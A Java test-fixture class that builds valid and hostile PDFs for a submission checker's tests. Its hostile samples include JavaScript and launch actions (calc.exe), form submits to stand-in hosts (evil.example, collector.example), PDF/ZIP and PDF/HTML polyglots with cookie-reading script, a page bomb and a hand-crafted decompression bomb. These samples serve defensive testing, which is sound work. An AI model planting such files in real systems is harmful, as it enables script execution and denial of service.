package org.husnu.symposium.test;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Calendar;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationText;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;

/**
 * PDFs for tests, built in memory in well under a second each: valid ones with a chosen
 * number of words, pages and paper size, and one hostile or broken file for every PDF
 * check code (encrypted, scripted, launching, attaching, XFA, submitting, image-only,
 * damaged, repairable, other formats renamed, polyglots, author names, a huge page, a
 * page bomb and a decompression bomb). One builder per check code is the point: the guard
 * test in PdfInspectorTests finds a code without a file here, so they stay together.
 */
public final class TestPdfs {

	/** A4 in points. */
	public static final PDRectangle A4 = PDRectangle.A4;

	/** US Letter in points. */
	public static final PDRectangle LETTER = PDRectangle.LETTER;

	private static final String[] WORDS = { "medical", "imaging", "model", "patients", "sepsis", "cohort", "signal",
			"learning", "outcome", "dataset", "validation", "anesthesia", "prediction", "clinical", "network" };

	private TestPdfs() {
	}

	/**
	 * A valid one-page A4 PDF with exactly {@code words} words of text.
	 * @param words the number of words
	 * @return the PDF
	 */
	public static byte[] a4WithWords(int words) {
		return withText(A4, text(words));
	}

	/**
	 * A valid one-page US Letter PDF.
	 * @param words the number of words
	 * @return the PDF
	 */
	public static byte[] letterWithWords(int words) {
		return withText(LETTER, text(words));
	}

	/**
	 * A one-page PDF of any size, e.g. A5 or 800 × 800 pt.
	 * @param size the page size
	 * @param words the number of words
	 * @return the PDF
	 */
	public static byte[] pageSized(PDRectangle size, int words) {
		return withText(size, text(words));
	}

	/**
	 * A one-page A5 PDF: wrong paper size.
	 * @return the PDF
	 */
	public static byte[] a5() {
		return pageSized(PDRectangle.A5, 50);
	}

	/**
	 * A valid A4 PDF with the given text on page 1.
	 * @param text the text (Latin-1 characters of the Standard 14 fonts)
	 * @return the PDF
	 */
	public static byte[] a4WithText(String text) {
		return withText(A4, text);
	}

	/**
	 * An A4 PDF of {@code pages} pages, each with a few words.
	 * @param pages the page count
	 * @return the PDF
	 */
	public static byte[] a4Pages(int pages) {
		return build((document) -> {
			for (int i = 0; i < pages; i++) {
				addTextPage(document, A4, "Page " + (i + 1) + " " + text(20));
			}
		});
	}

	/**
	 * A PDF that needs the password {@code user} to open.
	 * @return the PDF
	 */
	public static byte[] passwordEncrypted() {
		return encrypted("owner", "user");
	}

	/**
	 * A PDF encrypted with an owner password only: it opens without a password, but
	 * printing and copying are restricted.
	 * @return the PDF
	 */
	public static byte[] ownerPasswordOnly() {
		return encrypted("owner", "");
	}

	/**
	 * A PDF whose open action runs JavaScript.
	 * @return the PDF
	 */
	public static byte[] javascriptOpenAction() {
		return build((document) -> {
			addTextPage(document, A4, text(50));
			PDActionJavaScript script = new PDActionJavaScript("app.alert('hello');");
			document.getDocumentCatalog().setOpenAction(script);
		});
	}

	/**
	 * A PDF with a link annotation whose action is JavaScript.
	 * @return the PDF
	 */
	public static byte[] javascriptLink() {
		return withLinkAction(new PDActionJavaScript("this.submitForm('https://evil.example/');"));
	}

	/**
	 * A PDF with a launch action on a link.
	 * @return the PDF
	 */
	public static byte[] launchAction() {
		PDActionLaunch launch = new PDActionLaunch();
		launch.getCOSObject().setString(COSName.F, "calc.exe");
		return withLinkAction(launch);
	}

	/**
	 * A PDF whose open action submits a form to a server.
	 * @return the PDF
	 */
	public static byte[] submitForm() {
		return build((document) -> {
			addTextPage(document, A4, text(50));
			PDActionSubmitForm submit = new PDActionSubmitForm();
			submit.getCOSObject().setString(COSName.F, "https://collector.example/");
			document.getDocumentCatalog().setOpenAction(submit);
		});
	}

	/**
	 * A PDF with an embedded file in its EmbeddedFiles name tree.
	 * @return the PDF
	 */
	public static byte[] embeddedFile() {
		return build((document) -> {
			addTextPage(document, A4, text(50));
			PDEmbeddedFile file = new PDEmbeddedFile(document,
					new ByteArrayInputStream("payload".getBytes(StandardCharsets.US_ASCII)));
			file.setSubtype("text/plain");
			file.setSize(7);
			file.setCreationDate(Calendar.getInstance());
			PDComplexFileSpecification spec = new PDComplexFileSpecification();
			spec.setFile("payload.txt");
			spec.setEmbeddedFile(file);
			PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
			tree.setNames(Map.of("payload.txt", spec));
			PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
			names.setEmbeddedFiles(tree);
			document.getDocumentCatalog().setNames(names);
		});
	}

	/**
	 * A PDF with an XFA form.
	 * @return the PDF
	 */
	public static byte[] xfa() {
		return build((document) -> {
			addTextPage(document, A4, text(50));
			PDAcroForm form = new PDAcroForm(document);
			form.getCOSObject().setItem(COSName.getPDFName("XFA"), new COSString("<xdp:xdp/>"));
			document.getDocumentCatalog().setAcroForm(form);
		});
	}

	/**
	 * An A4 page with only an image on it, like a scan: no extractable text.
	 * @return the PDF
	 */
	public static byte[] imageOnly() {
		return build((document) -> {
			PDPage page = new PDPage(A4);
			document.addPage(page);
			BufferedImage image = new BufferedImage(200, 100, BufferedImage.TYPE_INT_RGB);
			Graphics2D graphics = image.createGraphics();
			graphics.setColor(Color.WHITE);
			graphics.fillRect(0, 0, 200, 100);
			graphics.setColor(Color.BLACK);
			graphics.drawString("scanned text", 20, 50);
			graphics.dispose();
			PDImageXObject xobject = LosslessFactory.createFromImage(document, image);
			try (PDPageContentStream content = new PDPageContentStream(document, page)) {
				content.drawImage(xobject, 50, 500, 400, 200);
			}
		});
	}

	/**
	 * A file that starts like a PDF and then is garbage: damaged beyond repair.
	 * @return the bytes
	 */
	public static byte[] damaged() {
		byte[] garbage = new byte[2048];
		new Random(42).nextBytes(garbage);
		return concat("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII), garbage);
	}

	/**
	 * A valid PDF whose cross-reference offsets all point to the wrong place: PDFBox's
	 * strict parser fails, its lenient parser repairs it by scanning for the objects.
	 * @return the PDF
	 */
	public static byte[] brokenXref() {
		String pdf = new String(a4WithWords(40), StandardCharsets.ISO_8859_1);
		int xref = pdf.lastIndexOf("\nxref");
		StringBuilder broken = new StringBuilder(pdf.substring(0, xref));
		String[] lines = pdf.substring(xref).split("\n", -1);
		for (int i = 0; i < lines.length; i++) {
			String line = lines[i];
			if (line.matches("\\d{10} \\d{5} n\\s*")) {
				long offset = Long.parseLong(line.substring(0, 10)) + 7;
				line = String.format("%010d", offset) + line.substring(10);
			}
			broken.append(line);
			if (i < lines.length - 1) {
				broken.append('\n');
			}
		}
		return broken.toString().getBytes(StandardCharsets.ISO_8859_1);
	}

	/**
	 * A valid PDF with a line of text before {@code %PDF-}, which PDF readers accept.
	 * @return the bytes
	 */
	public static byte[] leadingJunk() {
		return concat("leading junk\n".getBytes(StandardCharsets.US_ASCII), a4WithWords(40));
	}

	/**
	 * A valid PDF with a ZIP archive appended after {@code %%EOF}: a ZIP reader opens it
	 * as an archive.
	 * @return the bytes
	 */
	public static byte[] pdfZipPolyglot() {
		ByteArrayOutputStream zip = new ByteArrayOutputStream();
		try (ZipOutputStream out = new ZipOutputStream(zip)) {
			out.putNextEntry(new ZipEntry("payload.html"));
			out.write("<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII));
			out.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return concat(a4WithWords(40), zip.toByteArray());
	}

	/**
	 * A valid PDF with an HTML page appended after {@code %%EOF}.
	 * @return the bytes
	 */
	public static byte[] pdfHtmlPolyglot() {
		return concat(a4WithWords(40), "\n<html><body><script>alert(document.cookie)</script></body></html>\n"
			.getBytes(StandardCharsets.US_ASCII));
	}

	/**
	 * A PNG image, to be uploaded under a {@code .pdf} name.
	 * @return the bytes
	 */
	public static byte[] png() {
		BufferedImage image = new BufferedImage(8, 8, BufferedImage.TYPE_INT_RGB);
		ByteArrayOutputStream png = new ByteArrayOutputStream();
		try {
			ImageIO.write(image, "png", png);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return png.toByteArray();
	}

	/**
	 * A Word document's first bytes (a ZIP whose first entry is {@code word/...}).
	 * @return the bytes
	 */
	public static byte[] docx() {
		ByteArrayOutputStream zip = new ByteArrayOutputStream();
		try (ZipOutputStream out = new ZipOutputStream(zip)) {
			out.putNextEntry(new ZipEntry("word/document.xml"));
			out.write("<w:document/>".getBytes(StandardCharsets.US_ASCII));
			out.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return zip.toByteArray();
	}

	/**
	 * A valid A4 PDF whose text names a person.
	 * @param name the name
	 * @return the PDF
	 */
	public static byte[] authorNameInText(String name) {
		return a4WithText("Department of Anesthesiology. Corresponding author: " + name + ". " + text(60));
	}

	/**
	 * A valid A4 PDF whose text is anonymous but whose Info dictionary names the author.
	 * @param name the name
	 * @return the PDF
	 */
	public static byte[] authorNameInMetadata(String name) {
		return build((document) -> {
			addTextPage(document, A4, text(60));
			document.getDocumentInformation().setAuthor(name);
			document.getDocumentInformation().setTitle("Sepsis prediction");
		});
	}

	/**
	 * A valid A4 PDF whose text is anonymous but whose page carries a comment
	 * (annotation) by the author.
	 * @param name the name the comment's author field holds
	 * @return the PDF
	 */
	public static byte[] authorNameInAnnotation(String name) {
		return build((document) -> {
			PDPage page = addTextPage(document, A4, text(60));
			PDAnnotationText comment = new PDAnnotationText();
			comment.setRectangle(new PDRectangle(40, 40, 20, 20));
			comment.setTitlePopup(name);
			comment.setContents("Shorten the methods section.");
			page.getAnnotations().add(comment);
		});
	}

	/**
	 * A valid A4 PDF whose text is anonymous but whose Info dictionary has a custom
	 * entry, as some exporters write ({@code /SourceModifiedBy}, {@code /Company}).
	 * @param key the entry's key
	 * @param value its value
	 * @return the PDF
	 */
	public static byte[] customMetadata(String key, String value) {
		return build((document) -> {
			addTextPage(document, A4, text(60));
			document.getDocumentInformation().setCustomMetadataValue(key, value);
		});
	}

	/**
	 * A valid one-page A4 PDF with a short text followed by many no-op operators
	 * ({@code q Q}, save and restore the graphics state): small, quick to receive, and as
	 * much work to parse as its operators are many.
	 * @param operators the no-op operators, in pairs
	 * @return the PDF
	 */
	public static byte[] manyOperators(int operators) {
		return build((document) -> {
			PDPage page = addTextPage(document, A4, text(30));
			StringBuilder noOps = new StringBuilder(operators * 4);
			for (int i = 0; i < operators / 2; i++) {
				noOps.append("q Q\n");
			}
			PDStream extra = new PDStream(document);
			try (OutputStream out = extra.createOutputStream()) {
				out.write(noOps.toString().getBytes(StandardCharsets.US_ASCII));
			}
			List<PDStream> contents = new ArrayList<>();
			page.getContentStreams().forEachRemaining(contents::add);
			contents.add(extra);
			page.setContents(contents);
		});
	}

	/**
	 * A page of 14 400 × 14 400 pt (200 × 200 in, the largest PDF allows): too big to
	 * preview.
	 * @return the PDF
	 */
	public static byte[] hugePage() {
		return pageSized(new PDRectangle(14_400, 14_400), 30);
	}

	/**
	 * A syntactically valid PDF with {@code pages} empty pages sharing one content
	 * stream, written directly so that 100 000 pages take milliseconds.
	 * @param pages the page count
	 * @return the PDF
	 */
	public static byte[] pageBomb(int pages) {
		RawPdf pdf = new RawPdf();
		int catalog = pdf.reserve();
		int tree = pdf.reserve();
		int content = pdf.add("<< /Length 0 >>\nstream\n\nendstream");
		StringBuilder kids = new StringBuilder();
		int firstPage = pdf.nextId();
		for (int i = 0; i < pages; i++) {
			kids.append(firstPage + i).append(" 0 R ");
		}
		for (int i = 0; i < pages; i++) {
			pdf.add("<< /Type /Page /Parent " + tree + " 0 R /MediaBox [0 0 595 842] /Contents " + content + " 0 R >>");
		}
		pdf.set(tree, "<< /Type /Pages /Count " + pages + " /Kids [" + kids + "] >>");
		pdf.set(catalog, "<< /Type /Catalog /Pages " + tree + " 0 R >>");
		return pdf.toBytes(catalog);
	}

	/**
	 * A one-page PDF whose content stream is a few kilobytes but inflates to
	 * {@code megabytes} MB of spaces (deflate written by hand, then deflated again), the
	 * classic decompression bomb.
	 * @param megabytes the decoded size
	 * @return the PDF
	 */
	public static byte[] flateBomb(int megabytes) {
		byte[] inner = zlibOfSpaces((long) megabytes * 1024 * 1024);
		byte[] outer = deflate(inner);
		RawPdf pdf = new RawPdf();
		int catalog = pdf.reserve();
		int tree = pdf.reserve();
		int content = pdf
			.add(concat(("<< /Length " + outer.length + " /Filter [/FlateDecode /FlateDecode] >>\nstream\n")
				.getBytes(StandardCharsets.US_ASCII), outer, "\nendstream".getBytes(StandardCharsets.US_ASCII)));
		int page = pdf
			.add("<< /Type /Page /Parent " + tree + " 0 R /MediaBox [0 0 595 842] /Contents " + content + " 0 R >>");
		pdf.set(tree, "<< /Type /Pages /Count 1 /Kids [" + page + " 0 R] >>");
		pdf.set(catalog, "<< /Type /Catalog /Pages " + tree + " 0 R >>");
		return pdf.toBytes(catalog);
	}

	/**
	 * Text of exactly {@code words} words.
	 * @param words the number of words
	 * @return the text
	 */
	public static String text(int words) {
		StringBuilder text = new StringBuilder();
		for (int i = 0; i < words; i++) {
			text.append((i == 0) ? "" : " ").append(WORDS[i % WORDS.length]);
		}
		return text.toString();
	}

	private static byte[] withLinkAction(PDAction action) {
		return build((document) -> {
			PDPage page = addTextPage(document, A4, text(50));
			PDAnnotationLink link = new PDAnnotationLink();
			link.setRectangle(new PDRectangle(50, 700, 200, 20));
			link.setAction(action);
			page.getAnnotations().add(link);
		});
	}

	private static byte[] encrypted(String owner, String user) {
		return build((document) -> {
			addTextPage(document, A4, text(50));
			AccessPermission permissions = new AccessPermission();
			permissions.setCanPrint(false);
			permissions.setCanExtractContent(false);
			StandardProtectionPolicy policy = new StandardProtectionPolicy(owner, user, permissions);
			policy.setEncryptionKeyLength(128);
			document.protect(policy);
		});
	}

	private static byte[] withText(PDRectangle size, String text) {
		return build((document) -> addTextPage(document, size, text));
	}

	private static PDPage addTextPage(PDDocument document, PDRectangle size, String text) throws IOException {
		PDPage page = new PDPage(size);
		document.addPage(page);
		List<String> lines = wrap(text, 14);
		float height = Math.min(size.getHeight(), 842);
		float leading = Math.max(2, Math.min(14, (height - 80) / Math.max(1, lines.size())));
		float fontSize = Math.max(1.5f, leading * 0.8f);
		try (PDPageContentStream content = new PDPageContentStream(document, page)) {
			content.beginText();
			content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), fontSize);
			content.setLeading(leading);
			content.newLineAtOffset(40, size.getHeight() - 40);
			for (String line : lines) {
				content.showText(line);
				content.newLine();
			}
			content.endText();
		}
		return page;
	}

	private static List<String> wrap(String text, int wordsPerLine) {
		String[] words = text.split(" ");
		List<String> lines = new ArrayList<>();
		for (int i = 0; i < words.length; i += wordsPerLine) {
			lines.add(String.join(" ", Arrays.copyOfRange(words, i, Math.min(words.length, i + wordsPerLine))));
		}
		return lines;
	}

	private static byte[] build(PdfContent content) {
		try (PDDocument document = new PDDocument()) {
			content.fill(document);
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			// classic cross-reference tables, so brokenXref() can break their offsets
			document.save(out, CompressParameters.NO_COMPRESSION);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/**
	 * Reads a PDF back, e.g. to check a fixture is what it claims.
	 * @param pdf the bytes
	 * @return the page count
	 */
	public static int pageCount(byte[] pdf) {
		try (PDDocument document = Loader.loadPDF(pdf)) {
			return document.getNumberOfPages();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/**
	 * A zlib stream (fixed-Huffman deflate written bit by bit) that inflates to
	 * {@code size} spaces: one literal, then back-references of 258 bytes at distance 1,
	 * 13 bits each, so building it costs nothing like inflating it.
	 */
	private static byte[] zlibOfSpaces(long size) {
		BitWriter bits = new BitWriter();
		bits.write(1, 1); // final block
		bits.write(1, 2); // fixed Huffman
		bits.writeCode(0x30 + ' ', 8); // literal ' '
		long remaining = size - 1;
		while (remaining >= 258) {
			bits.writeCode(0b11000101, 8); // length 258 (code 285)
			bits.writeCode(0, 5); // distance 1
			remaining -= 258;
		}
		for (long i = 0; i < remaining; i++) {
			bits.writeCode(0x30 + ' ', 8);
		}
		bits.writeCode(0, 7); // end of block
		byte[] deflate = bits.toBytes();
		long a = (1 + (size % 65521) * ' ') % 65521;
		// b = size + ' ' * size * (size + 1) / 2, modulo 65521
		BigInteger n = BigInteger.valueOf(size);
		long b = n.add(n.multiply(n.add(BigInteger.ONE)).divide(BigInteger.TWO).multiply(BigInteger.valueOf(' ')))
			.mod(BigInteger.valueOf(65521))
			.longValue();
		long adler = (b << 16) | a;
		ByteArrayOutputStream zlib = new ByteArrayOutputStream();
		zlib.write(0x78);
		zlib.write(0x01);
		zlib.writeBytes(deflate);
		for (int shift = 24; shift >= 0; shift -= 8) {
			zlib.write((int) (adler >>> shift) & 0xFF);
		}
		return zlib.toByteArray();
	}

	private static byte[] deflate(byte[] data) {
		Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
		deflater.setInput(data);
		deflater.finish();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		byte[] buffer = new byte[64 * 1024];
		while (!deflater.finished()) {
			out.write(buffer, 0, deflater.deflate(buffer));
		}
		deflater.end();
		return out.toByteArray();
	}

	private static byte[] concat(byte[]... parts) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (byte[] part : parts) {
			out.writeBytes(part);
		}
		return out.toByteArray();
	}

	@FunctionalInterface
	private interface PdfContent {

		void fill(PDDocument document) throws IOException;

	}

	/** Deflate's bit order: values LSB first, Huffman codes MSB first. */
	private static final class BitWriter {

		private final ByteArrayOutputStream out = new ByteArrayOutputStream();

		private int current;

		private int used;

		void write(int value, int count) {
			for (int i = 0; i < count; i++) {
				bit((value >>> i) & 1);
			}
		}

		void writeCode(int code, int length) {
			for (int i = length - 1; i >= 0; i--) {
				bit((code >>> i) & 1);
			}
		}

		private void bit(int bit) {
			this.current |= bit << this.used;
			if (++this.used == 8) {
				this.out.write(this.current);
				this.current = 0;
				this.used = 0;
			}
		}

		byte[] toBytes() {
			if (this.used > 0) {
				this.out.write(this.current);
				this.current = 0;
				this.used = 0;
			}
			return this.out.toByteArray();
		}

	}

	/** A PDF written object by object, with a correct cross-reference table. */
	private static final class RawPdf {

		private final List<byte[]> objects = new ArrayList<>();

		int reserve() {
			this.objects.add(null);
			return this.objects.size();
		}

		int nextId() {
			return this.objects.size() + 1;
		}

		int add(String body) {
			return add(body.getBytes(StandardCharsets.ISO_8859_1));
		}

		int add(byte[] body) {
			this.objects.add(body);
			return this.objects.size();
		}

		void set(int id, String body) {
			this.objects.set(id - 1, body.getBytes(StandardCharsets.ISO_8859_1));
		}

		byte[] toBytes(int root) {
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			out.writeBytes("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n".getBytes(StandardCharsets.ISO_8859_1));
			long[] offsets = new long[this.objects.size()];
			for (int i = 0; i < this.objects.size(); i++) {
				offsets[i] = out.size();
				out.writeBytes(((i + 1) + " 0 obj\n").getBytes(StandardCharsets.US_ASCII));
				out.writeBytes(this.objects.get(i));
				out.writeBytes("\nendobj\n".getBytes(StandardCharsets.US_ASCII));
			}
			long xref = out.size();
			StringBuilder table = new StringBuilder("xref\n0 " + (this.objects.size() + 1) + "\n0000000000 65535 f \n");
			for (long offset : offsets) {
				table.append(String.format("%010d 00000 n \n", offset));
			}
			table.append("trailer\n<< /Size ")
				.append(this.objects.size() + 1)
				.append(" /Root ")
				.append(root)
				.append(" 0 R >>\nstartxref\n")
				.append(xref)
				.append("\n%%EOF\n");
			out.writeBytes(table.toString().getBytes(StandardCharsets.US_ASCII));
			return out.toByteArray();
		}

	}

}
